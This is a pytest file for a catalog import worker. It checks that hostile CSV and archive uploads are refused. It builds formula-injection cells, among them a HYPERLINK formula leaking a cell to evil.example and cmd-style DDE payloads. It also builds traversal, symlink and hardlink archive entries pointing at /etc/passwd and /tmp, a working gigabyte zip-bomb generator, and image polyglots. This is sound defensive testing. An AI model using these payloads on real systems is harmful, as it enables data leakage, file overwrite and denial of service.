"""Hostile catalog imports, end to end through run_import (the worker's part) on a private tmp tree.

The tree holds the uploads (a CSV and an archive), VAR_DIR (the job's scratch
folder) and MEDIA_ROOT. After every import the test lists the whole tree: the
only files left are the uploads and the images of the good rows in the media
folder; nothing was written beside them, above them or at an absolute path.
Bad rows are JobErrors on their spreadsheet line; good rows are Products.
"""
from __future__ import annotations

import codecs
import io
import os
import stat
import struct
import tarfile
import time
import uuid
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import Image

from tests.engine.test_hostile_images import jpeg_with_segment, png_chunk, png_header
from webapp.catalog.importing import run_import
from webapp.catalog.models import Job, JobKind, JobStatus, Product, ProductImage

pytestmark = [pytest.mark.services, pytest.mark.django_db(transaction=True)]

HEADER = "sku,title,price,image,garment_type"
GiB = 1024**3


def jpeg(colour="red", size=(24, 32)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, "JPEG")
    return buffer.getvalue()


class Workspace:
    """tmp_path/uploads (the inputs), tmp_path/var (VAR_DIR) and tmp_path/media (MEDIA_ROOT)."""

    def __init__(self, root: Path):
        self.root = root
        self.uploads = root / "uploads"
        self.uploads.mkdir()
        self.media = root / "media"

    def run(self, csv: bytes, archive: bytes | None = None, archive_name: str = "images.zip") -> Job:
        csv_path = self.uploads / "products.csv"
        csv_path.write_bytes(csv)
        archive_path = None
        if archive is not None:
            archive_path = self.uploads / archive_name
            archive_path.write_bytes(archive)
        job = Job.objects.create(kind=JobKind.IMPORT)
        run_import(job.pk, "csv", str(csv_path), str(archive_path) if archive_path else None)
        job.refresh_from_db()
        return job

    def files(self) -> set[str]:
        """Every file, link or other non-directory under the tree, relative posix paths."""
        found = set()
        for dirpath, dirnames, filenames in os.walk(self.root):
            for name in filenames + [d for d in dirnames if (Path(dirpath) / d).is_symlink()]:
                found.add((Path(dirpath) / name).relative_to(self.root).as_posix())
        return found

    def assert_only_uploads_and_media(self) -> set[str]:
        """Nothing outside uploads/ and media/; returns the media files."""
        files = self.files()
        outside = {f for f in files if not f.startswith(("uploads/", "media/"))}
        assert outside == set(), f"written outside the media folder: {outside}"
        media = {f for f in files if f.startswith("media/")}
        for name in media:
            assert not (self.root / name).is_symlink()
            assert (self.root / name).resolve().is_relative_to(self.media.resolve())
        return media


@pytest.fixture
def workspace(tmp_path, settings) -> Workspace:
    settings.VAR_DIR = tmp_path / "var"
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return Workspace(tmp_path)


def errors_of(job: Job) -> list[tuple[int | None, str, str]]:
    return sorted(((e.line, e.reference, e.message) for e in job.errors.all()), key=lambda e: (e[0] or 0, e[1]))


def lines_with_errors(job: Job) -> set[int]:
    return {line for line, _, _ in errors_of(job) if line is not None}


def zip_of(entries: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# =========================================================================== CSV


def test_missing_required_columns_is_one_clear_error_and_nothing_is_stored(workspace):
    job = workspace.run(b"sku,name,cost,picture\nA1,Shirt,5,a.jpg\n", zip_of({"a.jpg": jpeg()}))
    [(line, _, message)] = errors_of(job)
    assert line is None and "lacks the required column(s) title, price, image" in message
    assert "Found: sku, name, cost, picture" in message
    assert job.status == JobStatus.FAILED and Product.objects.count() == 0
    assert workspace.assert_only_uploads_and_media() == set()


def test_bad_rows_are_reported_on_their_lines_and_good_rows_are_stored(workspace):
    csv = "\n".join([
        HEADER,
        "G1,Good shirt,12.50,a.jpg,upper",          # 2 ok
        "B1,Bad price,12.5.0,a.jpg,upper",          # 3
        "B2,Missing image,5,nowhere.jpg,upper",     # 4: not in the archive
        "B3,Broken image,5,broken.jpg,upper",       # 5: a truncated JPEG in the archive
        "B4,Text as image,5,text.jpg,upper",        # 6: not an image inside
        "G1,Same SKU again,5,a.jpg,upper",          # 7: duplicate of line 2
        "B5,No type,5,a.jpg,",                      # 8
        "G2,Good skirt,7.00,sub/b.jpg,lower",       # 9 ok
        "",
    ]).encode()
    archive = zip_of({"a.jpg": jpeg("red"), "sub/b.jpg": jpeg("blue"), "broken.jpg": jpeg()[:200],
                      "text.jpg": b"just text"})
    job = workspace.run(csv, archive)
    assert set(Product.objects.values_list("sku", flat=True)) == {"G1", "G2"}
    assert Product.objects.get(sku="G1").title == "Good shirt"
    assert lines_with_errors(job) == {3, 4, 5, 6, 7, 8}
    by_line = {line: message for line, _, message in errors_of(job) if line}
    assert "not a number" in by_line[3] and "not in the archive" in by_line[4]
    assert "not a readable image" in by_line[5] and "already used on line 2" in by_line[7]
    assert (job.status, job.done, job.failed) == (JobStatus.DONE, 2, 6)
    media = workspace.assert_only_uploads_and_media()
    assert len(media) == 2 == ProductImage.objects.count()


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252"])
def test_a_latin1_or_cp1252_sheet_is_decoded_and_says_which_encoding_it_assumed(workspace, encoding):
    text = f"{HEADER},brand\nE1,Robe d'été,19.90,a.jpg,full,Müller & Søn\nE2,Jupe à carreaux,9,a.jpg,lower,Niño\n"
    job = workspace.run(text.encode(encoding), zip_of({"a.jpg": jpeg()}))
    assert dict(Product.objects.values_list("sku", "title")) == {"E1": "Robe d'été", "E2": "Jupe à carreaux"}
    assert Product.objects.get(sku="E1").brand == "Müller & Søn"
    assert "read as cp1252" in job.message and "CSV UTF-8" in job.message


def test_a_utf16_sheet_with_bom_is_decoded_and_without_bom_is_a_clear_error(workspace):
    text = "sku\ttitle\tprice\timage\tgarment_type\nU1\tÉté 夏\t5\ta.jpg\tfull\n"  # Excel's "Unicode text"
    job = workspace.run(codecs.BOM_UTF16_LE + text.encode("utf-16-le"), zip_of({"a.jpg": jpeg()}))
    assert job.errors.count() == 0 and Product.objects.get(sku="U1").title == "Été 夏"

    job = workspace.run(text.replace("U1", "U2").encode("utf-16-le"), zip_of({"a.jpg": jpeg()}))  # no BOM
    [(line, _, message)] = errors_of(job)
    assert line is None and "UTF-16 without BOM" in message and "save the sheet as 'CSV UTF-8'" in message
    assert list(Product.objects.values_list("sku", flat=True)) == ["U1"]


def test_a_binary_file_sent_as_the_sheet_is_refused(workspace):
    job = workspace.run(jpeg(), zip_of({"a.jpg": jpeg()}))
    [(line, _, message)] = errors_of(job)
    assert line is None and "CSV UTF-8" in message and Product.objects.count() == 0


def test_a_giant_cell_is_a_clear_file_error_not_a_crash(workspace):
    job = workspace.run(f"{HEADER}\nA1,{'x' * 200_000},5,a.jpg,upper\n".encode(), zip_of({"a.jpg": jpeg()}))
    [(line, _, message)] = errors_of(job)
    assert line is None and "not a readable CSV" in message and Product.objects.count() == 0


FORMULAS = {
    3: ("F1", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "a.jpg", "", "title"),
    4: ("F2", "+cmd|' /C calc'!A0", "a.jpg", "", "title"),
    5: ("-2+3", "Minus SKU", "a.jpg", "", "sku"),
    6: ("F4", "Brand at", "a.jpg", "@SUM(1+1)*cmd|' /C calc'!A0", "brand"),
    7: ("F5", "\t=1+1", "a.jpg", "", "title"),
    8: ("F6", "Image formula", '=IMAGE("http://evil.example/x.png")', "", "image"),
    9: ("F7", " =1+1", "a.jpg", "", "title"),  # a leading space is stripped, then it is a formula
}


def test_formula_cells_are_refused_per_row_with_a_clear_error(workspace):
    """The safe behaviour chosen: a cell a spreadsheet would run (= + - @, tab, CR first) refuses its row,
    with an error on its line and column; the catalog never holds a value that starts a formula."""
    rows = ["sku,title,price,image,garment_type,brand,attributes", "OK1,Plain shirt,5,a.jpg,upper,Acme,cotton"]
    rows += [",".join('"' + v.replace('"', '""') + '"' for v in (sku, title, "5", image, "upper", brand, ""))
             for sku, title, image, brand, _ in FORMULAS.values()]
    rows += ["OK2,Dash inside - fine,5,a.jpg,upper,A-B,slim; -fit"]  # 10: attribute '-fit' is a formula start
    job = workspace.run("\n".join(rows).encode(), zip_of({"a.jpg": jpeg()}))
    assert set(Product.objects.values_list("sku", flat=True)) == {"OK1"}
    errors = {(line, column): message for line, column, message in errors_of(job)}
    for line, (*_, column) in FORMULAS.items():
        assert "formula" in errors[(line, column)], (line, errors)
    assert "formula" in errors[(10, "attributes")]
    for product in Product.objects.all():
        for value in (product.sku, product.title, product.brand, *product.attributes):
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


# =========================================================================== archives


@pytest.fixture
def outside_name() -> str:
    return f"streetshop-escape-{uuid.uuid4().hex}.jpg"


def test_zip_with_traversal_absolute_and_link_entries_stores_only_the_good_images(workspace, outside_name):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("shirts/good.jpg", jpeg("green"))
        zf.writestr("../evil.jpg", jpeg())
        zf.writestr("../../../../../../../../tmp/" + outside_name, jpeg())
        zf.writestr(zipfile.ZipInfo("/tmp/" + outside_name), jpeg())
        zf.writestr("C:\\Windows\\evil.jpg", jpeg())
        zf.writestr("\\\\server\\share\\evil.jpg", jpeg())
        zf.writestr("shirts/..\\..\\evil2.jpg", jpeg())
        for name, target in [("link.jpg", "/etc/passwd"), ("shirts", "/tmp"), ("up.jpg", "../../media/x.jpg")]:
            link = zipfile.ZipInfo(name)
            link.create_system = 3
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(link, target)
        zf.writestr("shirts/after-link.jpg", jpeg("blue"))  # would go through 'shirts' if it were a link
    csv = "\n".join([
        HEADER,
        "Z1,Good,5,shirts/good.jpg,upper",
        "Z2,Link,5,link.jpg,upper",
        "Z3,Up,5,up.jpg,upper",
        "Z4,After link,5,shirts/after-link.jpg,upper",
        "Z5,Traversal in the sheet,5,../evil.jpg,upper",
        f"Z6,Absolute in the sheet,5,/tmp/{outside_name},upper",
    ]).encode()
    job = workspace.run(csv, archive.getvalue())
    assert set(Product.objects.values_list("sku", flat=True)) == {"Z1", "Z4"}
    assert lines_with_errors(job) == {3, 4, 6, 7}
    archive_errors = "\n".join(m for line, ref, m in errors_of(job) if ref == "archive")
    for name in ["../evil.jpg", "/tmp/" + outside_name, "C:\\\\Windows", "server", "link.jpg: refused, a symlink",
                 "up.jpg: refused, a symlink", "shirts: refused, a symlink"]:
        assert name in archive_errors, (name, archive_errors)
    assert not Path("/tmp", outside_name).exists() and not (workspace.root.parent / "evil.jpg").exists()
    assert len(workspace.assert_only_uploads_and_media()) == 2


def test_tar_with_traversal_absolute_and_links_stores_only_the_good_image(workspace, outside_name):
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as tar:
        def add(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, target: str = "") -> None:
            member = tarfile.TarInfo(name)
            member.type, member.linkname, member.size = kind, target, len(data)
            tar.addfile(member, io.BytesIO(data) if data else None)

        add("ok/good.jpg", jpeg())
        add("../../" + outside_name, jpeg())
        add("/tmp/" + outside_name, jpeg())
        add("ok/sym.jpg", kind=tarfile.SYMTYPE, target="/etc/passwd")
        add("ok/hard.jpg", kind=tarfile.LNKTYPE, target="/etc/passwd")
        add("escape", kind=tarfile.SYMTYPE, target="/tmp")
        add("escape/" + outside_name, jpeg())  # through the link if it had been made; a plain folder now
        add("ok/fifo.jpg", kind=tarfile.FIFOTYPE)
    csv = f"{HEADER}\nT1,Good,5,ok/good.jpg,upper\nT2,Sym,5,ok/sym.jpg,upper\nT3,Esc,5,escape/{outside_name},upper\n"
    job = workspace.run(csv.encode(), archive.getvalue(), "images.tar.gz")
    assert set(Product.objects.values_list("sku", flat=True)) == {"T1", "T3"}
    archive_errors = "\n".join(m for line, ref, m in errors_of(job) if ref == "archive")
    for what in ["refused, a symlink", "refused, a hardlink", "refused, a device", "/tmp/" + outside_name, "'..'"]:
        assert what in archive_errors, (what, archive_errors)
    assert not Path("/tmp", outside_name).exists()
    assert len(workspace.assert_only_uploads_and_media()) == 2


def deflate_bomb(size: int, prefix: bytes) -> tuple[bytes, int]:
    """A raw deflate stream of ``prefix`` + zeros, ``size`` bytes in all, and its CRC-32, without
    deflating ``size`` bytes: after a full flush the compressor starts afresh, so one MiB of zeros
    always deflates to the same bytes, which are repeated."""
    block = 1024 * 1024
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first_block = prefix + bytes(block - len(prefix))
    first = compressor.compress(first_block) + compressor.flush(zlib.Z_FULL_FLUSH)
    zeros = bytes(block)
    repeat = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(first_block)
    for _ in range(size // block - 1):
        crc = zlib.crc32(zeros, crc)
    return first + repeat * (size // block - 1) + b"\x03\x00", crc  # an empty final block ends the stream


def zip_with_raw_entry(name: str, compressed: bytes, crc: int, size: int, declared: int | None = None) -> bytes:
    """A one-entry zip written by hand around an already deflated stream (sizes < 4 GiB, no zip64)."""
    declared = size if declared is None else declared
    encoded = name.encode()
    fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(compressed), declared)
    local = b"PK\x03\x04" + fields + struct.pack("<HH", len(encoded), 0) + encoded
    central = (b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, 0)
               + encoded)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local) + len(compressed), 0)
    return local + compressed + central + end


@pytest.fixture(scope="module")
def gigabyte_bomb() -> tuple[bytes, int]:
    return deflate_bomb(GiB, jpeg())


def test_a_one_gigabyte_zip_bomb_is_refused_before_anything_is_written(workspace, gigabyte_bomb):
    stream, crc = gigabyte_bomb
    data = zip_with_raw_entry("bomb.jpg", stream, crc, GiB)
    assert len(data) < 2 * 1024 * 1024  # about 1 MB for 1 GiB
    with zipfile.ZipFile(io.BytesIO(data)) as check, check.open("bomb.jpg") as entry:
        assert check.getinfo("bomb.jpg").file_size == GiB and entry.read(3) == b"\xff\xd8\xff"  # a real zip
    started = time.perf_counter()
    job = workspace.run(f"{HEADER}\nK1,Bomb,5,bomb.jpg,upper\n".encode(), data)
    assert time.perf_counter() - started < 5
    archive_errors = [m for _, ref, m in errors_of(job) if ref == "archive"]
    assert len(archive_errors) == 1 and "decompression bomb" in archive_errors[0]
    assert "Nothing was extracted" in archive_errors[0]
    assert Product.objects.count() == 0 and workspace.assert_only_uploads_and_media() == set()


def test_a_zip_bomb_that_lies_about_its_size_is_cut_off_while_copying(workspace, gigabyte_bomb):
    stream, crc = gigabyte_bomb
    data = zip_with_raw_entry("liar.jpg", stream, crc, GiB, declared=5000)  # "5000 bytes"
    started = time.perf_counter()
    job = workspace.run(f"{HEADER}\nL1,Liar,5,liar.jpg,upper\n".encode(), data)
    assert time.perf_counter() - started < 5
    archive_errors = "\n".join(m for _, ref, m in errors_of(job) if ref == "archive")
    # zipfile reads no more than the declared 5000 bytes, then finds the CRC wrong
    assert "liar.jpg: could not be extracted (Bad CRC-32" in archive_errors
    assert Product.objects.count() == 0 and workspace.assert_only_uploads_and_media() == set()


def test_an_archive_with_too_many_files_is_refused_whole(workspace):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("a.jpg", jpeg())
        for i in range(20_000):  # the default limit is 20 000 entries
            zf.writestr(f"n/{i}.txt", b"")
    job = workspace.run(f"{HEADER}\nM1,Many,5,a.jpg,upper\n".encode(), archive.getvalue())
    archive_errors = [m for _, ref, m in errors_of(job) if ref == "archive"]
    assert len(archive_errors) == 1 and "more than 20000 entries" in archive_errors[0]
    assert Product.objects.count() == 0 and workspace.assert_only_uploads_and_media() == set()


def test_hostile_images_inside_a_good_archive_refuse_only_their_rows(workspace):
    bomb = png_header(50000, 50000) + png_chunk(b"IDAT", zlib.compress(bytes(50001 * 20))) + png_chunk(b"IEND", b"")
    polyglot = jpeg_with_segment(b"\xff\xfe", b"<script>alert(1)</script>")
    archive = zip_of({"good.jpg": jpeg(), "bomb.png": bomb, "poly.jpg": polyglot,
                      "page.jpg": b"\xff\xd8\xff<html><body>x</body></html>"})
    csv = f"{HEADER}\nH1,Good,5,good.jpg,upper\nH2,Bomb,5,bomb.png,upper\nH3,Poly,5,poly.jpg,upper\nH4,Page,5,page.jpg,upper\n"
    job = workspace.run(csv.encode(), archive)
    assert set(Product.objects.values_list("sku", flat=True)) == {"H1"}
    by_line = {line: message for line, _, message in errors_of(job) if line}
    assert "too many pixels" in by_line[3] and "polyglot" in by_line[4] and "polyglot" in by_line[5]
    assert len(workspace.assert_only_uploads_and_media()) == 1


def test_a_sku_that_looks_like_a_path_stays_inside_the_media_folder(workspace):
    """The media path is products/<the SKU's first two letters or digits>/...: '..' and '../x' are stored
    like any SKU, their images inside the media folder, and the rows after them too."""
    csv = f"{HEADER}\n..,Dots,5,a.jpg,upper\n../x,Dots slash,5,a.jpg,upper\nS2,After,5,a.jpg,upper\n"
    job = workspace.run(csv.encode(), zip_of({"a.jpg": jpeg()}))
    assert set(Product.objects.values_list("sku", flat=True)) == {"..", "../x", "S2"}
    assert job.status == JobStatus.DONE and lines_with_errors(job) == set()
    media = workspace.assert_only_uploads_and_media()
    assert len(media) == 3 and all(name.startswith("media/products/") and ".." not in name for name in media)
